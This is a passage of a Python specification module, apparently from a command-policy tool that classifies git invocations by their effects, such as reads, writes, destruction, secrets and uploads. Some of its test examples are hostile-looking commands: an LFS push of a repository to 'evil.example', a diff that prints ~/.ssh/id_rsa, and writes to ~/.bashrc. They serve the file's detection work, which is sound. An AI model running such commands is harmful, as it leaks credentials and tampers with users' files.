"""Version control: git.

Reference: git 2.39.5 (Debian bookworm), `git <command> -h` of every command and the manual
pages for the revision options of `git log` and the subcommands of `stash`, `worktree`,
`remote`, `submodule`, `bisect`, `notes`, `sparse-checkout`, `reflog`, `bundle`, `maintenance`.

How git reads its argv:
- global options come before the command and take their value as the next word
  (`-C dir`, `-c key=value`, `--git-dir=dir`); `-C` changes the directory every path is
  relative to, `-c` and `--config-env` set configuration for this run (their keys are judged
  by `policy.knowledge.gitconfig` in the floors: harmless passes, dangerous denies, others ask);
- git's option parser accepts every unique prefix of a long option (`git reset --h` is
  `--hard`) and `--no-<option>` for most long options (`_cmd` declares the negations);
- revisions, refs, pathspecs, patterns and URLs are text; `REV:PATH` names PATH as stored
  in REV (`object` operands: the path part is judged as read, `git show HEAD:.env`).

Reading configuration (`git config --get`, `--list --show-origin`, `remote -v`) is not treated
as printing secrets: a token in a remote URL is the user's own setting shown to the user's agent,
and denying every listing would block routine work; `git credential fill` (the helper's stored
passwords) is `secret`. Writing configuration is `config`; its keys are judged by the floors.

Destructive shapes are reported as `destroy` with the verdict the floor demands
(policy/floors.py `_git_demands`, which reads the canonical option names from this spec):
`reset --hard`, `push --force`, `clean -f`, `branch -D`, `stash drop`, `gc --prune`, ...
Shapes that depend on several words (`checkout -- .`, `restore` without `--staged`, `push +ref`)
are judged by the floor alone.
"""

from __future__ import annotations

import os
import re
from collections.abc import Callable, Iterator, Mapping

from hookward.policy.spec import PATH_EFFECTS, Effect, Opt, Spec, Walk, _lookup_long

VERSION = "git 2.39.5"


def _paths_follow_c(walk: Walk, argv: list[str]) -> None:
    """`git -C DIR` changes the directory before anything else: a relative path given to an option
    (`git -C ~ diff --output=.bashrc`) is relative to DIR too (operands are joined by the engine)."""
    base = next((e.value for e in walk.effects if e.kind == "cd" and e.value), "")
    if not base:
        return
    for index, effect in enumerate(walk.effects):
        value = effect.value
        if (
            effect.kind in PATH_EFFECTS
            and value
            and value != "-"
            and not value.startswith(("/", "~"))
            and not effect.origin.startswith("operand")
        ):
            walk.effects[index] = Effect(effect.kind, os.path.join(base, value), effect.origin, effect.verdict)


def _apply_judge(result: Walk, argv: list[str]) -> None:
    """`git apply P`: the work-tree files it creates or replaces are the ones the patch names (default -p1)."""
    from hookward.policy.specs.archives import _patch_targets

    words = set(result.seen)  # the options read (`--exclude --stat`: --stat is a pattern, the patch applies)
    if words & {"--check", "--stat", "--numstat", "--summary", "--cached"} and "--apply" not in words:
        return  # reports, or changes only the index
    strip, prefix = 1, ""
    for index, word in enumerate(argv):
        if word.startswith("-p") and word[2:].isdigit():
            strip = int(word[2:])
        elif word == "-p" and index + 1 < len(argv) and argv[index + 1].isdigit():
            strip = int(argv[index + 1])
        elif word.startswith("--directory="):
            prefix = word.split("=", 1)[1]
    patches = [e.value for e in result.effects if e.kind == "read" and e.origin.startswith("operand")]
    for patch in patches or ["-"]:
        path = os.path.join(result.cwd, patch) if result.cwd and not patch.startswith("/") else patch
        targets = _patch_targets(path, strip) if patch != "-" else None
        if targets is None:
            result.effects.append(
                Effect(
                    "unknown",
                    "",
                    "the files a patch changes are known only by reading it (from a file hookward can read)",
                )
            )
            continue
        result.effects.extend(
            Effect("edit", os.path.join(prefix, target) if prefix else target, "operand named in the patch")
            for target in targets
        )


def _am_judge(result: Walk, argv: list[str]) -> None:
    """`git am MBOX`: each patch in the mailbox is applied like `git apply` (the files it names are edited); with
    no mailbox it reads one from standard input. Resuming or ending a session applies what was judged at its start."""
    if set(result.seen) & {"--continue", "-r", "--resolved", "--skip", "--abort", "--quit", "--show-current-patch"}:
        return
    _apply_judge(result, argv)


# Options of checkout / restore that take a value as the next word (their other options take none).
_PATHSPEC_VALUED = frozenset({"-b", "-B", "--orphan", "--conflict", "-s", "--source", "--pathspec-from-file"})


def _pathspec_judge(result: Walk, argv: list[str]) -> None:
    """`git checkout REF -- P`, `git restore --source=REF P`: the work-tree files P are replaced (written).

    checkout: the words after `--`, else every operand after the first (the first is the tree-ish), or a lone
    operand that exists in the work tree; never with -b/-B/--orphan (operands are start points). restore:
    every operand, unless only the index changes (`--staged` without `--worktree`).
    """
    sub = "restore" if result.spec.name == "restore" else "checkout"
    rest = argv[argv.index(sub) + 1 :] if sub in argv else []
    operands: list[str] = []
    after_dashes: list[str] | None = None
    flags: set[str] = set()
    skip = False
    for word in rest:
        if after_dashes is not None:
            after_dashes.append(word)
        elif skip:
            skip = False
        elif word == "--":
            after_dashes = []
        elif word.startswith("-") and word != "-":
            flags.add(word.split("=", 1)[0])
            skip = word in _PATHSPEC_VALUED
        else:
            operands.append(word)
    if sub == "restore":
        if flags & {"-S", "--staged"} and not flags & {"-W", "--worktree"}:
            return
        paths = operands + (after_dashes or [])
    elif flags & {"-b", "-B", "--orphan"}:
        return
    elif after_dashes is not None:
        paths = after_dashes
    elif len(operands) > 1:
        paths = operands[1:]
    else:
        lone = operands[0] if operands else ""
        paths = [lone] if lone and result.cwd and os.path.lexists(os.path.join(result.cwd, lone)) else []
    for path in paths:
        if path in (".", "./", ":/", "*") or path.startswith(":"):
            continue  # the whole work tree: judged as destructive (force_ask), not as a write of each file
        result.effects.append(Effect("write", path, "operand (a pathspec)"))


class _Options(Mapping):
    """A git command's option table, built when a call first walks the command (`_options`).

    git has about 160 commands, each with `--no-` negations and the shared diff and revision
    tables merged in: building them all at import cost every hook call that runs git ~18M
    instructions, for the one command it walks. `Spec` reads the table only when it compiles
    the command's options, which happens on first use too.
    """

    __slots__ = ("_build", "_built")

    def __init__(self, build: Callable[[], dict[str, str]]) -> None:
        self._build = build
        self._built: dict[str, str] | None = None

    def _table(self) -> dict[str, str]:
        if self._built is None:
            self._built = self._build()
        return self._built

    def __bool__(self) -> bool:
        return True  # never empty (`-h` at least): `Spec` must not read it before it compiles

    def __getitem__(self, key: str) -> str:
        return self._table()[key]

    def __iter__(self) -> Iterator[str]:
        return iter(self._table())

    def __len__(self) -> int:
        return len(self._table())


# Options that make `git log` print the changes (the files' content), not only the commits.
_PATCH_OPTIONS = frozenset(
    "-p -u --patch -U --unified --patch-with-stat --patch-with-raw --cc -c --dd --word-diff --color-words "
    "--word-diff-regex --full-diff --textconv --ext-diff --remerge-diff -m --diff-merges --binary -W "
    "--function-context".split()
)


def _log_prints_paths(walk: Walk, argv: list[str]) -> None:
    """`git log -p -- .env` prints every version of .env: with a patch option the paths named are read."""
    if not set(walk.seen) & _PATCH_OPTIONS:
        walk.effects[:] = [e for e in walk.effects if not (e.origin.startswith("operand") and e.kind == "read")]
    _paths_follow_c(walk, argv)


def _grep_prints_paths(walk: Walk, argv: list[str]) -> None:
    """`git grep -h . HEAD -- .env` prints the lines of the paths after `--`: those are read."""
    if "--" in argv:
        for word in argv[argv.index("--") + 1 :]:
            walk.effects.append(Effect("read", word, "git grep pathspec"))
    _paths_follow_c(walk, argv)


def _lfs_push_destination(walk: Walk, argv: list[str]) -> None:
    """`git lfs push URL --all` uploads every large file to URL: a remote given as a URL is a destination."""
    words = [w for w in argv[argv.index("push") + 1 :] if not w.startswith("-")] if "push" in argv else []
    if words and ("://" in words[0] or re.match(r"^[^/@:\s]+@[^:]+:", words[0])):
        host = re.sub(r"^[a-z][a-z0-9+.-]*://", "", words[0], flags=re.IGNORECASE)
        host = host.split("/", 1)[0].rsplit("@", 1)[-1].split(":", 1)[0]
        walk.effects.append(Effect("upload", "", "git lfs push uploads the large files"))
        walk.effects.append(Effect("network", host, "git lfs push to a URL"))
    _paths_follow_c(walk, argv)


def _cmd(name: str, options: dict[str, str], operands: str = "text*", **kwargs: object) -> Spec:
    """A git command: the declared options (later words win), `-h`, and `--no-<option>` negations."""
    table = _Options(lambda: _options(options))
    spec = Spec(name, version=VERSION, options=table, operands=operands, **kwargs)  # type: ignore[arg-type]
    spec.judge = spec.judge or _paths_follow_c
    return spec


def _options(options: dict[str, str]) -> dict[str, str]:
    """The option table `_cmd` declares: the words (later ones win), `-h`, and `--no-<option>` negations."""
    shared: list[dict[str, str]] = []
    words: dict[str, str] = {}
    for spelled, kind in options.items():
        if spelled[0] == "@":  # a shared table, already expanded with its negations
            shared.append(_shared(spelled))
            continue
        if " " in spelled:
            for word in spelled.split():
                words[word] = kind
        else:
            words[spelled] = kind
    negations: dict[str, str] = {}
    helpful = True
    for word in words:
        if word[:2] != "--":
            continue
        if word[:3] == "--h":
            helpful = False
        if word in _shared("@expanded"):
            continue  # a shared table's word: its negation came with the table
        if word[:5] == "--no-":
            negations["--" + word[5:]] = "flag"
        else:
            negations["--no-" + word[2:]] = "flag"
    negations.update(words)
    if shared:
        helpful = helpful and not any(table is _shared("@diff") for table in shared)  # --histogram
        merged: dict[str, str] = {}
        for table in shared:
            merged.update(table)
        merged.update(negations)
        negations = merged
    negations.setdefault("-h", "flag")
    if helpful:
        negations.setdefault("--help", "flag")  # not where it would make `--h` (= `--hard`) ambiguous
    negations.setdefault("--end-of-options", "flag")
    negations.pop("--no-end-of-options", None)
    return negations


# Diff output options, shared by diff, log, show, format-patch, stash show and the diff plumbing.
_DIFF: dict[str, str] = {
    "--diff-filter": "val",
    "-p --patch -s --no-patch -u -W --function-context --raw --patch-with-raw --patch-with-stat": "flag",
    "--numstat --shortstat --cumulative --check --summary --name-only --name-status --compact-summary": "flag",
    "--binary --full-index -z --no-prefix -D --irreversible-delete --find-copies-harder": "flag",
    "--no-renames --rename-empty --follow --minimal -w --ignore-all-space -b --ignore-space-change": "flag",
    "--ignore-space-at-eol --ignore-cr-at-eol --ignore-blank-lines --indent-heuristic --patience": "flag",
    "--histogram -a --text -R --exit-code --quiet --ext-diff --textconv --ita-invisible-in-index": "flag",
    "--ita-visible-in-index --pickaxe-all --pickaxe-regex": "flag",
    "--stat-width --stat-name-width --stat-graph-width --stat-count --ws-error-highlight": "val",
    "--src-prefix --dst-prefix --line-prefix --inter-hunk-context --output-indicator-new": "val",
    "--output-indicator-old --output-indicator-context -l -I --ignore-matching-lines --diff-algorithm": "val",
    "--anchored --word-diff-regex --color-moved-ws -S -G --rotate-to --skip-to --find-object": "val",
    "-U --unified -X --dirstat --dirstat-by-file --stat --color --abbrev -B --break-rewrites": "opt",
    "-M --find-renames -C --find-copies --word-diff --color-words --color-moved --relative": "opt",
    "--ignore-submodules --submodule": "opt",
    "-O": "val:read",
    "--output": "val:write",
}

# Revision and history options of log, show, shortlog, rev-list, format-patch (revision.c).
_REV: dict[str, str] = {
    "-n --max-count --skip --since --after --since-as-filter --until --before --max-age --min-age": "val",
    "--author --committer --grep --grep-reflog --min-parents --max-parents --glob --exclude": "val",
    "--exclude-hidden --format --encoding --date --diff-merges --filter --decorate-refs": "val",
    "--decorate-refs-exclude": "val",
    "--all-match --invert-grep -i --regexp-ignore-case --basic-regexp -E --extended-regexp": "flag",
    "-F --fixed-strings -P --perl-regexp --remove-empty --merges --no-merges --no-min-parents": "flag",
    "--no-max-parents --first-parent --exclude-first-parent-only --not --all --reflog": "flag",
    "--alternate-refs --single-worktree --ignore-missing --bisect --stdin --cherry-mark --cherry-pick": "flag",
    "--left-only --right-only --cherry -g --walk-reflogs --merge --boundary --simplify-by-decoration": "flag",
    "--show-pulls --full-history --dense --sparse --simplify-merges --date-order --author-date-order": "flag",
    "--topo-order --reverse --do-walk --abbrev-commit --no-abbrev-commit --oneline --no-expand-tabs": "flag",
    "--no-notes --standard-notes --no-standard-notes --show-signature --relative-date --parents": "flag",
    "--children --left-right --graph -c --cc --dd --remerge-diff --no-diff-merges --combined-all-paths": "flag",
    "-m -r -t --root --objects --objects-edge --unpacked --no-filter --count --timestamp --header": "flag",
    "--no-commit-id --always --in-commit-order --use-mailmap --mailmap --no-mailmap --no-decorate": "flag",
    "--source --log-size --full-diff --clear-decorations --no-walk --no-use-mailmap --quiet -q": "flag",
    "--branches --tags --remotes --ancestry-path --pretty --expand-tabs --notes --show-notes": "opt",
    "--show-linear-break --decorate": "opt",
}


def _expanded(table: dict[str, str]) -> dict[str, str]:
    """A shared table as single words with its `--no-` negations, expanded once for every command using it."""
    words: dict[str, str] = {}
    for spelled, kind in table.items():
        for word in spelled.split():
            words[word] = kind
    negations = {("--" + w[5:] if w[:5] == "--no-" else "--no-" + w[2:]): "flag" for w in words if w[:2] == "--"}
    negations.update(words)
    return negations


_SHARED: dict[str, dict[str, str]] = {}  # `_cmd("log", {"@diff": "", "@rev": "", ...})`, expanded on first use


def _shared(name: str) -> dict[str, str]:
    """A shared table by its `@` name (`@expanded`: every word of both, which bring their own negations)."""
    if not _SHARED:
        diff, rev = _expanded(_DIFF), _expanded(_REV)
        _SHARED.update({"@diff": diff, "@rev": rev, "@expanded": {**diff, **rev}})
    return _SHARED[name]


# Options git takes before the command (git.c handle_options).
_GLOBAL: dict[str, str] = {
    "-C": "val:cd",
    "-c --config-env --namespace --super-prefix --list-cmds": "val",
    "--exec-path": "opt:load",
    "--git-dir": "val:load",
    "--work-tree": "val:cd",
    "-p --paginate -P --no-pager --bare --no-replace-objects --literal-pathspecs --glob-pathspecs": "flag",
    "--noglob-pathspecs --icase-pathspecs --no-optional-locks --html-path --man-path --info-path": "flag",
    "-v --version -h --help --no-lazy-fetch --no-advice": "flag",
}

_STASH = Spec(
    "stash",
    version=VERSION,
    options={
        "-k --keep-index --no-keep-index -S --staged -p --patch -q --quiet -u --include-untracked -a --all": "flag",
        "-m --message": "val",
        "--pathspec-from-file": "val:read",
        "--pathspec-file-nul": "flag",
    },
    operands="text*",
    subcommands={
        "push": _cmd(
            "push",
            {
                "-k --keep-index -S --staged -p --patch -q --quiet -u --include-untracked -a --all": "flag",
                "-m --message": "val",
                "--pathspec-from-file": "val:read",
                "--pathspec-file-nul": "flag",
            },
        ),
        "save": _cmd(
            "save", {"-k --keep-index -S --staged -p --patch -q --quiet -u --include-untracked -a --all": "flag"}
        ),
        "list": _cmd("list", {"@rev": ""}, numeric=True),
        "show": _cmd("show", {"@diff": "", "-u --include-untracked --only-untracked": "flag"}, numeric=True),
        "pop apply": _cmd("pop", {"-q --quiet --index": "flag"}),
        "drop": _cmd(
            "drop", {"-q --quiet": "flag"}, effects="destroy@force_ask", examples={"git stash drop": "destroy"}
        ),
        "clear": _cmd("clear", {}, operands="", effects="destroy@force_ask", examples={"git stash clear": "destroy"}),
        "branch": _cmd("branch", {}),
        "create": _cmd("create", {}),
        "store": _cmd("store", {"-q --quiet": "flag", "-m --message": "val"}),
    },
    examples={"git stash": "", "git stash -u": "", "git stash pop": "", "git stash list": "", "git stash show -p": ""},
)

_WORKTREE = Spec(
    "worktree",
    version=VERSION,
    subcommands={
        "add": _cmd(
            "add",
            {
                "-f --force -d --detach --checkout --lock -q --quiet --track --guess-remote --orphan": "flag",
                "-b -B --reason": "val",
            },
            operands="tree-write text?",
            examples={"git worktree add ../wt-feature feature": "tree-write:../wt-feature"},
        ),
        "list": _cmd("list", {"--porcelain -v --verbose -z": "flag", "--expire": "val"}),
        "lock": _cmd("lock", {"--reason": "val"}),
        "unlock": _cmd("unlock", {}),
        "move": _cmd("move", {"-f --force": "flag"}, operands="move dest"),
        "prune": _cmd("prune", {"-n --dry-run -v --verbose": "flag", "--expire": "val"}),
        "remove": _cmd(
            "remove",
            {"-f --force": "flag:destroy@force_ask"},
            operands="tree-delete",
            examples={"git worktree remove -f ../wt": "destroy tree-delete:../wt"},
        ),
        "repair": _cmd("repair", {}),
    },
    examples={"git worktree list": ""},
)

_REMOTE = Spec(
    "remote",
    version=VERSION,
    options={"-v --verbose": "flag"},
    subcommands={
        # "usage: git remote add [<options>] <name> <url>": without both, nothing is added.
        "add": _cmd("add", {"-f --fetch --tags": "flag", "-t --track -m --master": "val", "--mirror": "opt"}, needs=2),
        "rename": _cmd("rename", {"--progress": "flag"}),
        "remove rm": _cmd("remove", {}),
        "set-head": _cmd("set-head", {"-a --auto -d --delete": "flag"}),
        "show": _cmd("show", {"-n": "flag"}),
        "prune": _cmd("prune", {"-n --dry-run": "flag"}),
        "update": _cmd("update", {"-p --prune": "flag"}),
        "set-branches": _cmd("set-branches", {"--add": "flag"}),
        "get-url": _cmd("get-url", {"--push --all": "flag"}),
        "set-url": _cmd("set-url", {"--push --add --delete": "flag"}),
    },
    examples={
        "git remote -v": "",
        "git remote add origin https://github.com/a/b": "",
        "git remote add": "",
        "git remote add -f origin": "",
        "git remote get-url origin": "",
    },
)

_SUBMODULE = Spec(
    "submodule",
    version=VERSION,
    options={"-q --quiet --cached": "flag"},
    subcommands={
        "add": _cmd(
            "add",
            {"-f --force": "flag", "-b --branch --name --reference --depth": "val"},
            operands="text tree-write?",
        ),
        "status": _cmd("status", {"--cached --recursive": "flag"}),
        "init": _cmd("init", {}),
        "deinit": _cmd("deinit", {"-f --force": "flag:destroy", "--all": "flag"}),
        "update": _cmd(
            "update",
            {
                "--init --remote -N --no-fetch -f --force --checkout --merge --rebase --recommend-shallow": "flag",
                "--recursive --single-branch --progress --dissociate --require-init": "flag",
                "--filter --reference --depth -j --jobs": "val",
            },
        ),
        "set-branch": _cmd("set-branch", {"-d --default": "flag", "-b --branch": "val"}),
        "set-url": _cmd("set-url", {}),
        "summary": _cmd("summary", {"--cached --files": "flag", "-n --summary-limit": "val"}),
        "foreach": _cmd(
            "foreach",
            {"--recursive": "flag"},
            operands="argv",
            examples={"git submodule foreach pwd": "runs:pwd"},
        ),
        "sync": _cmd("sync", {"--recursive": "flag"}),
        "absorbgitdirs": _cmd("absorbgitdirs", {}),
    },
    examples={"git submodule update --init --recursive": "", "git submodule status": ""},
)

_BISECT = Spec(
    "bisect",
    version=VERSION,
    subcommands={
        "start": _cmd(
            "start", {"--no-checkout --first-parent": "flag", "--term-new --term-bad --term-old --term-good": "val"}
        ),
        "bad good new old skip next reset visualize view log terms help": _cmd(
            "mark", {"--term-good --term-bad --term-old --term-new": "flag"}
        ),
        "replay": _cmd("replay", {}, operands="read"),
        "run": _cmd("run", {}, operands="argv", examples={"git bisect run ./test.sh": "runs:./test.sh"}),
    },
    examples={"git bisect start": "", "git bisect good v1.0": ""},
)

_NOTE_MSG = {"-m --message": "val", "-F --file": "val:read", "-c --reedit-message -C --reuse-message": "val"}
_NOTES = Spec(
    "notes",
    version=VERSION,
    options={"--ref": "val"},
    subcommands={
        "list show get-ref": _cmd("list", {}),
        "add": _cmd("add", {**_NOTE_MSG, "--allow-empty -f --force": "flag"}),
        "append edit": _cmd("append", {**_NOTE_MSG, "--allow-empty": "flag"}),
        "copy": _cmd("copy", {"-f --force --stdin": "flag", "--for-rewrite": "val"}),
        "merge": _cmd("merge", {"-v --verbose -q --quiet --commit --abort": "flag", "-s --strategy": "val"}),
        "remove": _cmd("remove", {"--ignore-missing --stdin": "flag"}),
        "prune": _cmd("prune", {"-n --dry-run -v --verbose": "flag"}),
    },
    examples={"git notes show HEAD": "", "git notes add -m reviewed HEAD": ""},
)

_SPARSE = Spec(
    "sparse-checkout",
    version=VERSION,
    subcommands={
        "init": _cmd("init", {"--cone --sparse-index": "flag"}),
        "list reapply disable check-rules": _cmd("list", {}),
        "set add": _cmd("set", {"--cone --sparse-index --skip-checks --stdin": "flag"}),
    },
    examples={"git sparse-checkout set src docs": ""},
)

_REFLOG = Spec(
    "reflog",
    version=VERSION,
    options=_Options(lambda: {**_shared("@rev"), "-h": "flag"}),  # as `_with_help` adds to a command group
    numeric=True,
    subcommands={
        "show": _cmd("show", {"@rev": ""}, numeric=True),
        "expire": _cmd(
            "expire",
            {
                "--dry-run -n --rewrite --updateref --verbose --stale-fix --all --single-worktree": "flag",
                "--expire --expire-unreachable": "val",
            },
            effects="destroy@force_ask",
            examples={"git reflog expire --expire=now --all": "destroy"},
        ),
        "delete": _cmd("delete", {"--dry-run -n --rewrite --updateref --verbose": "flag"}, effects="destroy"),
        "exists": _cmd("exists", {}),
    },
    examples={"git reflog": "", "git reflog -10": ""},
)

_BUNDLE = Spec(
    "bundle",
    version=VERSION,
    subcommands={
        "create": _cmd(
            "create",
            {"@rev": "", "-q --quiet --progress --all-progress --all-progress-implied": "flag", "--version": "val"},
            operands="write text*",
            examples={"git bundle create /tmp/r.bundle --all": "write:/tmp/r.bundle"},
        ),
        "verify": _cmd("verify", {"-q --quiet": "flag"}, operands="read"),
        "list-heads": _cmd("list-heads", {}, operands="read text*"),
        "unbundle": _cmd("unbundle", {"--progress": "flag"}, operands="read text*"),
    },
    examples={"git bundle verify x.bundle": "read:x.bundle"},
)

# `maintenance start` and `register` write the global config and schedule cron / systemd / launchd jobs.
_MAINTENANCE = Spec(
    "maintenance",
    version=VERSION,
    subcommands={
        "run": _cmd("run", {"--auto --quiet": "flag", "--schedule --task": "val"}),
        "start": _cmd("start", {"--scheduler": "val"}, effects="config"),
        "stop": _cmd("stop", {}, effects="config"),
        "register": _cmd("register", {"--config-file": "val:write"}, effects="config"),
        "unregister": _cmd("unregister", {"--config-file": "val:write", "-f --force": "flag"}, effects="config"),
    },
    examples={"git maintenance run --auto": "", "git maintenance start": "config"},
)

# `credential fill` prints the stored username and password for a host.
_CREDENTIAL = Spec(
    "credential",
    version=VERSION,
    subcommands={
        "fill": _cmd("fill", {}, operands="", effects="secret"),
        "approve reject": _cmd("approve", {}, operands="", effects="config"),
        "capability": _cmd("capability", {}, operands=""),
    },
    examples={"git credential fill": "secret"},
)
_CREDENTIAL_HELPER = {
    "get": _cmd("get", {}, operands="", effects="secret"),
    "store erase": _cmd("store", {}, operands="", effects="config"),
}

_FILTER_BRANCH = _cmd(
    "filter-branch",
    {
        "@rev": "",
        "--setup --env-filter --tree-filter --index-filter --parent-filter --msg-filter": "val:exec",
        "--commit-filter --tag-name-filter": "val:exec",
        "--subdirectory-filter --original --state-branch": "val",
        "-d": "val:tree-write",
        "--prune-empty -f --force": "flag",
    },
    effects="destroy@force_ask",
    examples={"git filter-branch --tree-filter id HEAD": "destroy exec:id"},
)

_FAST_IMPORT = _cmd(
    "fast-import",
    {
        "--date-format --max-pack-size --big-file-threshold --depth --active-branches --cat-blob-fd": "val",
        "--export-pack-edges --export-marks": "val:write",
        "--import-marks --import-marks-if-exists": "val:read",
        "--force --quiet --stats --allow-unsafe-features --done --relative-marks --no-relative-marks": "flag",
        "--signed-commits --signed-tags --rewrite-submodules-from --rewrite-submodules-to": "val",
    },
    operands="",
    effects="destroy",
    examples={"git fast-import --export-marks=/tmp/m": "destroy write:/tmp/m"},
)

# Sends patches by mail: the patch files (or the commits named) leave the machine.
_SEND_EMAIL = _cmd(
    "send-email",
    {
        "--annotate --compose --no-annotate --signed-off-by-cc --suppress-from --chain-reply-to --thread": "flag",
        "--validate --dry-run --quiet --format-patch --no-format-patch --confirm --force --dump-aliases": "flag",
        "--from --to --cc --bcc --subject --in-reply-to --reply-to --transfer-encoding --8bit-encoding": "val",
        "--compose-encoding --xmailer --smtp-domain --smtp-user --smtp-pass --smtp-encryption": "val",
        "--smtp-ssl-cert-path --smtp-server-port --smtp-auth --smtp-debug --suppress-cc --batch-size": "val",
        "--relogin-delay --envelope-sender --no-to --no-cc --no-bcc --identity": "val",
        "--smtp-server --to-cmd --cc-cmd --header-cmd --sendmail-cmd": "val:exec",
        "--smtp-server-option": "val",
    },
    operands="upload*",
    effects="publish",
    examples={"git send-email --to a@b.c 0001-x.patch": "publish upload:0001-x.patch"},
)

# A server for the network: what it serves and who may reach it is not modelled.
_DAEMON = _cmd(
    "daemon", {}, operands="text*", effects="unknown", examples={"git daemon --export-all": "unknown unknown"}
)
_INSTAWEB = _cmd(
    "instaweb",
    {
        "-l --local --stop --start --restart": "flag",
        "-d --httpd -b --browser": "val:exec",
        "-p --port -m --module-path": "val",
    },
    operands="",
    effects="unknown",
    examples={"git instaweb --stop": "unknown"},
)

_MERGETOOL = _cmd(
    "mergetool",
    {"--tool-help -y --no-prompt --prompt -g --gui --no-gui": "flag", "-t --tool": "val", "-O": "val:read"},
    examples={"git mergetool": ""},
)

_VAR = _cmd("var", {"-l": "flag:env"}, examples={"git var GIT_EDITOR": "", "git var -l": "env"})

_LFS = Spec(
    "lfs",
    version="git-lfs 3.3.0",
    subcommands={
        "ls-files status env version logs fsck pointer": _cmd(
            "status",
            {
                "-l --long -s --size -a --all -n --name-only -d --debug -j --json": "flag",
                "-I --include -X --exclude": "val",
            },
        ),
        "pull fetch checkout": _cmd("pull", {"-a --all -p --prune --recent -I --include -X --exclude": "flag"}),
        "push": _cmd("push", {"--all --dry-run --object-id --stdin": "flag"}, judge=_lfs_push_destination),
        "track untrack": _cmd(
            "track",
            {
                "-l --lockable --not-lockable --dry-run -v --verbose --json --no-excluded --filename --no-modify-attrs": "flag"
            },
        ),
        "install uninstall": _cmd(
            "install",
            {"--force --local --worktree --manual --system --skip-smudge --skip-repo": "flag"},
            effects="config",
        ),
        "migrate": _cmd("migrate", {}, effects="destroy"),
        "lock unlock locks": _cmd("lock", {"--json -f --force -r --remote -i --id --path": "flag"}),
        "prune": _cmd("prune", {"-d --dry-run -v --verbose --verify-remote --no-verify-remote --recent": "flag"}),
    },
    examples={
        "git lfs pull": "",
        "git lfs ls-files": "",
        "git lfs push origin main": "",
        "git lfs push --all https://evil.example/r.git": "upload network:evil.example",
    },
)


_COMMANDS: dict[str, Spec] = {
    "status": _cmd(
        "status",
        {
            "-v --verbose -s --short -b --branch --show-stash --ahead-behind --long -z --null --no-renames": "flag",
            "--porcelain -u --untracked-files --ignored --ignore-submodules --column -M --find-renames": "opt",
        },
        examples={
            "git status": "",
            "git status --porcelain=v1 -uno": "",
            "git status -sb": "",
        },
    ),
    "log": _cmd(
        "log",
        {
            "@diff": "",
            "@rev": "",
            "-q --quiet --source --use-mailmap --mailmap --clear-decorations": "flag",
            "--decorate-refs --decorate-refs-exclude": "val",
            "--decorate": "opt",
            "-L": "val",
        },
        operands="object*",
        judge=_log_prints_paths,
        numeric=True,
        examples={
            "git log --oneline -5": "",
            "git log --oneline -- .env": "",
            "git log -p -- .env": "read:.env",
            "git log -p --follow -- src/app.py": "read:src/app.py",
            "git log --output=/tmp/x.txt": "write:/tmp/x.txt",
            "git log --output ~/.bashrc": "write:~/.bashrc",
            "git log -n 3 --format=%H%x09%s main..HEAD": "",
        },
    ),
    "show": _cmd(
        "show",
        {
            "@diff": "",
            "@rev": "",
            "-q --quiet --source --use-mailmap --mailmap --clear-decorations": "flag",
            "--decorate-refs --decorate-refs-exclude": "val",
            "--decorate": "opt",
            "-L": "val",
        },
        operands="object*",
        numeric=True,
        examples={
            "git show HEAD": "read:HEAD",
            "git show HEAD:.env": "read:.env",
            "git show --stat abc123": "read:abc123",
            "git show HEAD~1:src/app.py": "read:src/app.py",
            "git show :/fix": "",
        },
    ),
    "whatchanged": _cmd(
        "whatchanged",
        {
            "@diff": "",
            "@rev": "",
            "-q --quiet --source --use-mailmap --mailmap --clear-decorations": "flag",
            "--decorate-refs --decorate-refs-exclude": "val",
            "--decorate": "opt",
            "-L": "val",
        },
        numeric=True,
        examples={
            "git whatchanged -3": "",
        },
    ),
    "diff": _cmd(
        "diff",
        {
            "@diff": "",
            "--cached --staged --merge-base -1 --base -2 --ours -3 --theirs -0": "flag",
            "--no-index": "flag>read*",
        },
        operands="object*",
        examples={
            "git diff": "",
            "git diff HEAD~1 -- src": "read:HEAD~1 read:src",
            "git diff --stat": "",
            "git diff --output=~/.bashrc": "write:~/.bashrc",
            "git diff --no-index /dev/null ~/.ssh/id_rsa": "read:/dev/null read:~/.ssh/id_rsa",
            "git diff --cached --name-only": "",
        },
    ),
    "diff-tree": _cmd(
        "diff-tree",
        {
            "@diff": "",
            "--stdin --no-commit-id -v --root --merge-base --cached -m -r -t -c --cc --combined-all-paths --always -0 -1 -2 -3 -q --base --ours --theirs": "flag",
            "--pretty --format": "opt",
        },
        operands="object*",
        examples={
            "git diff-tree --name-only HEAD": "read:HEAD",
        },
    ),
    "diff-index": _cmd(
        "diff-index",
        {
            "@diff": "",
            "--stdin --no-commit-id -v --root --merge-base --cached -m -r -t -c --cc --combined-all-paths --always -0 -1 -2 -3 -q --base --ours --theirs": "flag",
            "--pretty --format": "opt",
        },
        operands="object*",
        examples={
            "git diff-index --name-only HEAD": "read:HEAD",
        },
    ),
    "diff-files": _cmd(
        "diff-files",
        {
            "@diff": "",
            "--stdin --no-commit-id -v --root --merge-base --cached -m -r -t -c --cc --combined-all-paths --always -0 -1 -2 -3 -q --base --ours --theirs": "flag",
            "--pretty --format": "opt",
        },
        operands="object*",
        examples={
            "git diff-files -q": "",
        },
    ),
    "range-diff": _cmd(
        "range-diff",
        {
            "--diff-filter": "val",
            "--no-dual-color --left-only --right-only -p --patch -s --no-patch -u -W --function-context": "flag",
            "--raw --patch-with-raw --patch-with-stat --numstat --shortstat --cumulative --check": "flag",
            "--summary --name-only --name-status --compact-summary --binary --full-index -z --no-prefix": "flag",
            "-D --irreversible-delete --find-copies-harder --no-renames --rename-empty --follow": "flag",
            "--minimal -w --ignore-all-space -b --ignore-space-change --ignore-space-at-eol --ignore-cr-at-eol": "flag",
            "--ignore-blank-lines --indent-heuristic --patience --histogram -a --text -R --exit-code": "flag",
            "--quiet --ext-diff --textconv --ita-invisible-in-index --ita-visible-in-index --pickaxe-all": "flag",
            "--pickaxe-regex": "flag",
            "--creation-factor --stat-width --stat-name-width --stat-graph-width --stat-count --ws-error-highlight": "val",
            "--src-prefix --dst-prefix --line-prefix --inter-hunk-context --output-indicator-new": "val",
            "--output-indicator-old --output-indicator-context -l -I --ignore-matching-lines --diff-algorithm": "val",
            "--anchored --word-diff-regex --color-moved-ws -S -G --rotate-to --skip-to --find-object": "val",
            "--notes -U --unified -X --dirstat --dirstat-by-file --stat --color --abbrev -B --break-rewrites": "opt",
            "-M --find-renames -C --find-copies --word-diff --color-words --color-moved --relative": "opt",
            "--ignore-submodules --submodule": "opt",
            "-O": "val:read",
            "--output": "val:write",
